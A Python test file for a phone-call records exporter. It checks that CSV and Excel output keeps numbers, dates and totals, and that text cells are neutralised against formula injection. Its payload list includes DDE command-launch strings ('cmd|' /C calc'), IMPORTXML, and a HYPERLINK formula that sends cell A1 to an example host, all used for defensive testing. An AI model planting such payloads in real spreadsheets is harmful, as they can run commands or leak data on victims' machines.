"""Files of calls read back as a spreadsheet reads them: values, types, sums, and no formula."""

import csv
import io
import os
import random
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime, time, timedelta
from decimal import Decimal
from itertools import islice, product
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.documents.cdr import Format, TotalsDiffer, write, xlsx_file
from store.calls import CallRow
from store.spreadsheets import harmless
from tests.calls_files import ABROAD, ASKED, INSIDE, totals, written

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "\n=")
COMMANDS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.com/?"&A1,"see")',
    "IMPORTXML(CONCAT(A1),B2)",
    "DDE(a;b;c)",
    '2+5+cmd|"/C notepad"!A0',
    "A1;B1,C1",
    '"quoted" text',
)
PAYLOADS = [sign + command for sign, command in product(SIGNS, COMMANDS)]
OCTOBER_3 = datetime(2026, 10, 3)  # noqa: DTZ001 - a cell knows no zone
TORONTO = timedelta(hours=-4)


def cells(content: bytes) -> list[list[str]]:
    """The rows of a CSV from its header on."""
    text = content.decode("utf-8-sig")
    delimiter = ";" if "Appel" in text else ","
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    return rows[rows.index([]) + 1 :]


def sheet(content: bytes, at: int = 0) -> list[tuple[object, ...]]:
    """The rows of a workbook's sheet from its header on."""
    book = load_workbook(io.BytesIO(content), read_only=True)
    rows = list(book.worksheets[at].iter_rows(values_only=True))
    header = next(n for n, row in enumerate(rows) if row[0] in {"Call ID", "ID d'appel"})
    return rows[header:]


def numbers(count: int) -> Iterator[str]:
    """Phone numbers in E.164 of every length."""
    chance = random.Random(5)  # noqa: S311 - made-up numbers
    while count:
        digits = chance.randint(7, 15)
        yield f"+{chance.randrange(10 ** (digits - 1), 10**digits)}"
        count -= 1


def called(party: Iterator[str]) -> list[CallRow]:
    """Calls from each other number to the next."""
    pairs = zip(party, party, strict=True)
    return [ABROAD._replace(from_number=one, to_number=other) for one, other in pairs]


def test_there_are_payloads_enough() -> None:
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("language", ["en", "fr"])
def test_no_text_of_a_csv_is_a_formula(language: str) -> None:
    calls = [
        ABROAD._replace(
            call_id=text, from_number=text, to_number=text, from_name=text, destination=text
        )
        for text in PAYLOADS
    ]
    _, *found = cells(written(calls, language=language))[: len(calls) + 1]
    for text, row in zip(PAYLOADS, found, strict=True):
        assert {row[n] for n in (0, 4, 5, 6, 14)} == {harmless(text)}
        assert harmless(text).startswith("'")  # one before what another delimiter parts, too
        assert harmless(text).replace("'", "") == text.replace("'", "")


def test_the_heading_of_a_csv_is_no_formula() -> None:
    out = io.BytesIO()
    write(out, replace(ASKED, heading="=1+1"), [], totals=totals())
    assert out.getvalue().decode("utf-8-sig").startswith("'=1+1\r\n")


def test_no_text_of_a_workbook_is_a_formula() -> None:
    calls = [ABROAD._replace(call_id=text, from_name=text) for text in PAYLOADS]
    book = load_workbook(io.BytesIO(written(calls, Format.XLSX)))
    rows = list(book.active.iter_rows(min_row=6, max_row=5 + len(calls)))
    for text, row in zip(PAYLOADS, rows, strict=True):
        for cell in (row[0], row[14]):
            # XML keeps no carriage return; a reader gives a line feed for it.
            assert text.replace("\r", "\n") == str(cell.value).replace("_x000D_", "\n")
            assert cell.data_type != "f"


def test_a_hundred_thousand_phone_numbers_stay_as_they_are_in_a_csv() -> None:
    party = list(numbers(100_000))
    _, *rows = cells(written(called(iter(party))))
    assert party == [number for row in rows[:50_000] for number in row[4:6]]


@pytest.mark.parametrize(
    "count", [2_000, pytest.param(100_000, marks=pytest.mark.slow)], ids=["some", "100,000"]
)
def test_phone_numbers_stay_as_they_are_in_a_workbook(count: int) -> None:
    party = list(numbers(count))
    _, *rows = sheet(written(called(iter(party)), Format.XLSX))
    assert party == [number for row in rows[: count // 2] for number in row[4:6]]


def test_a_csv_has_the_figures_of_the_calls() -> None:
    for language, mark in (("en", "."), ("fr", ",")):
        header, abroad, inside, total, *_ = cells(written([ABROAD, INSIDE], language=language))
        assert 16 == len(header) == len(abroad) == len(inside) == len(total)
        assert "0.119583".replace(".", mark) == abroad[11] == total[11]
        assert "0:04:30" == total[7]


def test_a_workbook_has_typed_cells_and_the_same_sums() -> None:
    header, abroad, inside, total, billed, unbilled, usage, difference = sheet(
        written([ABROAD, INSIDE], Format.XLSX, usage_cents=12)
    )
    assert ("Call ID", "Invoice", 16) == (header[0], header[15], len(header))
    local = (ABROAD.start_at + TORONTO).replace(tzinfo=None)
    assert (
        "c-1",
        OCTOBER_3,
        local.time(),
        "Outgoing",
        "+14165550100",
        "+442079460958",
        "United Kingdom",
        timedelta(seconds=205),
        0,
        3.42,
        0.035,
        0.119583,
        "204",
        None,
        None,
        "INV00054321",
    ) == abroad
    assert (OCTOBER_3.replace(day=31), time(23, 59, 59)) == inside[1:3]
    assert (None, 0, None, None) == inside[8:12]
    assert "Not billed yet" == inside[15]
    assert ("Total", 2, timedelta(seconds=270), 0.119583) == (*total[:2], total[7], total[11])
    assert ("Billed", 1, "Not billed yet", 1) == (*billed[:2], *unbilled[:2])
    assert (0.12, -0.000417) == (usage[11], difference[11])


def test_a_workbook_can_be_filtered_and_keeps_its_header_in_sight() -> None:
    book = load_workbook(io.BytesIO(written([ABROAD, INSIDE], Format.XLSX, language="fr")))
    page = book.active
    assert ("Appels", "B7", "A6:P8") == (page.title, page.freeze_panes, page.auto_filter.ref)
    assert 20 <= page.column_dimensions["A"].width < 21
    assert ["@", "yyyy-mm-dd", "hh:mm:ss"] == [page.cell(7, n).number_format for n in (1, 2, 3)]
    assert '#,##0.00####\u00a0"$"_)' == page.cell(7, 12).number_format


def test_more_calls_than_a_sheet_holds_go_on_in_the_next(monkeypatch) -> None:
    monkeypatch.setattr(xlsx_file, "ROWS", 15)
    calls = [ABROAD._replace(call_id=f"c-{n}") for n in range(20)]
    content = written(calls, Format.XLSX)
    book = load_workbook(io.BytesIO(content))
    assert ["Calls", "Calls 2", "Calls 3"] == book.sheetnames
    pages = [sheet(content, at) for at in range(3)]
    ids = [row[0] for page in pages for row in page[1:]]
    assert [*(call.call_id for call in calls), "Total"] == ids
    assert all(page.max_row <= 15 for page in book.worksheets)
    assert 20 == pages[2][-1][1]


def test_a_workbook_that_does_not_come_to_its_totals_is_refused() -> None:
    for kind in Format:
        with pytest.raises(TotalsDiffer):
            write(io.BytesIO(), replace(ASKED, format=kind), [ABROAD], totals=totals())


def test_the_same_calls_give_the_same_bytes() -> None:
    for kind in Format:
        assert written([ABROAD, INSIDE], kind) == written([ABROAD, INSIDE], kind)


def test_who_waits_is_told_how_far_it_is() -> None:
    told: list[int] = []
    written([ABROAD] * 2_500, progress=told.append)
    assert [1_000, 2_000, 2_500] == told


def _opened(tmp_path: Path, name: str, content: bytes, infilter: str = "") -> list[tuple]:
    """What LibreOffice makes of a file, from its header on."""
    program = shutil.which("soffice")
    if program is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice is missing")
        pytest.skip("LibreOffice is not installed here: its reading of the files is not tested")
    (tmp_path / name).write_bytes(content)
    done = subprocess.run(
        [
            program,
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            *([f"--infilter={infilter}"] if infilter else []),
            "--convert-to",
            "xlsx:Calc MS Excel 2007 XML",
            "--outdir",
            str(tmp_path / "opened"),
            str(tmp_path / name),
        ],
        capture_output=True,
        timeout=180,
        check=False,
    )
    assert 0 == done.returncode, done.stderr
    return sheet((tmp_path / "opened" / Path(name).with_suffix(".xlsx")).read_bytes())


LANGUAGES = [("en", 44, 4105), ("fr", 59, 3084)]  # the delimiter, and Microsoft's number of it
MANY = [
    ABROAD._replace(call_id=f"c-{n}", to_number=number, charge_millionths=n * 1_234)
    for n, number in enumerate(islice(numbers(200), 200))
]


@pytest.mark.slow
@pytest.mark.parametrize(("language", "delimiter", "number"), LANGUAGES)
def test_libreoffice_reads_a_csv_as_it_is_meant(tmp_path, language, delimiter, number) -> None:
    asked = f"CSV:{delimiter},34,76,1,5/2/6/2,{number}"  # phone numbers as text: columns 5 and 6
    content = written([*MANY, INSIDE._replace(call_id="=1+1")], language=language)
    _, *rows = _opened(tmp_path, "calls.csv", content, asked)
    for call, row in zip(MANY, rows, strict=False):
        assert (call.call_id, call.from_number, call.to_number) == (row[0], row[4], row[5])
        assert call.charge_millionths == Decimal(str(row[11])) * 1_000_000
        assert OCTOBER_3 == row[1]
        assert time(10, 22, 5) == row[2]
        assert timedelta(seconds=205) == _span(row[7])
    assert "'=1+1" == rows[200][0]
    total = sum(call.charge_millionths for call in MANY)
    assert total == Decimal(str(rows[201][11])) * 1_000_000


@pytest.mark.slow
def test_libreoffice_keeps_every_digit_of_a_phone_number_when_it_guesses(tmp_path) -> None:
    _, *rows = _opened(tmp_path, "calls.csv", written(MANY))
    assert [int(call.to_number) for call in MANY] == [int(row[5]) for row in rows[:200]]


@pytest.mark.slow
def test_libreoffice_reads_a_workbook_as_it_is_meant(tmp_path) -> None:
    content = written([*MANY, INSIDE._replace(call_id="=1+1")], Format.XLSX)
    _, *rows = _opened(tmp_path, "calls.xlsx", content)
    for call, row in zip(MANY, rows, strict=False):
        assert (call.call_id, call.from_number, call.to_number) == (row[0], row[4], row[5])
        assert call.charge_millionths == Decimal(str(row[11])) * 1_000_000
    assert "=1+1" == rows[200][0]
    assert 201 == rows[201][1]


def _span(value: object) -> timedelta:
    if isinstance(value, time):
        return timedelta(hours=value.hour, minutes=value.minute, seconds=value.second)
    assert isinstance(value, timedelta)
    return value
